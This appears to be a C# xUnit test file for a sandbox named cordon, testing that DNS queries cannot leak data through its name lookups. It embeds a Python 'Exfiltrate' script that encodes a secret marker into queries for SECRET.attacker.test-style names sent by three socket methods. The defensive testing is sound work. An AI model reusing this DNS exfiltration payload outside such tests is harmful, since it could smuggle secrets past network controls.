using Xunit;

namespace Cordon.Kernel.Tests;

/// <summary>
/// DNS as a way out through cordon itself. cordon learns host names by asking the questions of the program's DNS
/// queries; if it asked anybody but the server the program was allowed to send that query to, a made-up name
/// (SECRET.attacker.test) would reach a resolver the program cannot reach, and that resolver's upstream, the
/// attacker's server. Each test runs in the test network of <see cref="DnsTests"/> with the system resolver (the one
/// /etc/resolv.conf names, which logs every question it sees) at 127.0.0.5, where the program may not send.
/// </summary>
public sealed class DnsAttackTests : IDisposable
{
    private const string SystemResolver = "127.0.0.5";

    /// <summary>Sends one query for a name carrying the secret through each trapped way of sending a datagram.</summary>
    private const string Exfiltrate = """
        import socket, struct, sys
        server, marker = (sys.argv[1], 53), sys.argv[2]
        def query(name):
            q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
            for label in name.split("."):
                q += bytes([len(label)]) + label.encode()
            return q + b"\x00\x00\x01\x00\x01"
        def attempt(how, send):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                send(s, query(how + "-" + marker + ".attacker.test"))
                print(how, "sent")
            except OSError as e:
                print(how, "refused", e.errno)
        attempt("sendto", lambda s, q: s.sendto(q, server))
        attempt("send", lambda s, q: (s.connect(server), s.send(q)))
        attempt("sendmsg", lambda s, q: s.sendmsg([q], [], 0, server))
        """;

    private readonly Sandboxed s = new();

    public void Dispose() => s.Dispose();

    private RunResult Run(string flags, string server)
    {
        var script = s.WorkFile("exfiltrate.py", Exfiltrate);
        var r = DnsTests.InNetwork(s, $"run --no-prompt --allow-read={s.Work} {flags} -- python3 {script} {server} {s.Marker}", SystemResolver);
        s.AssertNoSecret(r);
        var log = Path.Combine(s.Root, "queries.log");
        var seen = File.Exists(log) ? File.ReadAllText(log) : "";
        Assert.DoesNotContain("attacker", seen, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(s.Marker, seen, StringComparison.OrdinalIgnoreCase);
        return r;
    }

    [Theory]
    [InlineData("--allow-net=127.0.0.1:53")]
    [InlineData("--allow-net=localhost")]
    public void A_query_to_an_allowed_server_where_nothing_listens_never_reaches_the_system_resolver(string allow)
    {
        var r = Run(allow, "127.0.0.1");
        Assert.True(r.ExitCode == 0, r.ToString());
        foreach (var how in new[] { "sendto", "send", "sendmsg" })
        {
            Assert.Contains(how + " sent", r.Stdout, StringComparison.Ordinal); // allowed: it went to 127.0.0.1:53, and only there
        }
    }

    [Fact]
    public void A_denied_query_makes_cordon_ask_nobody()
    {
        // The program aims at the system resolver itself, which no rule allows: the send is decided first, and a
        // denied datagram is neither sent nor read for names.
        var r = Run("", SystemResolver);
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Contains("sendto refused 13", r.Stdout, StringComparison.Ordinal);
        Assert.Contains("send refused 13", r.Stdout, StringComparison.Ordinal);
        Assert.Contains("sendmsg refused 13", r.Stdout, StringComparison.Ordinal);
    }
}

/// <summary>Names are still learned when the program's server answers: from that server, not the system's resolver.</summary>
public sealed class DnsServerChoiceTests : IDisposable
{
    private readonly Sandboxed s = new();

    public void Dispose() => s.Dispose();

    [Fact]
    public void Names_are_learned_from_the_server_the_program_asked()
    {
        // The test's DNS server listens on 127.0.0.1 and knows allowed.test; the program asks it directly with
        // dig-like code, then connects by address: the connect is shown by the name that server gave.
        var script = s.WorkFile("ask.py", """
            import socket, struct
            q = struct.pack("!HHHHHH", 0x2222, 0x0100, 1, 0, 0, 0) + b"\x07allowed\x04test\x00\x00\x01\x00\x01"
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(5)
            u.sendto(q, ("127.0.0.1", 53))
            reply = u.recv(512)
            address = socket.inet_ntoa(reply[-4:])
            try:
                socket.create_connection((address, 8080), timeout=5)
                print("connected", address)
            except OSError as e:
                print("denied", address, e.errno)
            """);
        var r = DnsTests.InNetwork(s, $"run --no-prompt --allow-read={s.Work} --allow-net=127.0.0.1:53 -- python3 {script}");
        Assert.True(r.ExitCode == 0, r.ToString());
        Assert.Contains("denied 127.0.0.2 13", r.Stdout, StringComparison.Ordinal);
        Assert.Contains("allowed.test:8080 (127.0.0.2)", r.Stderr, StringComparison.Ordinal);
    }
}
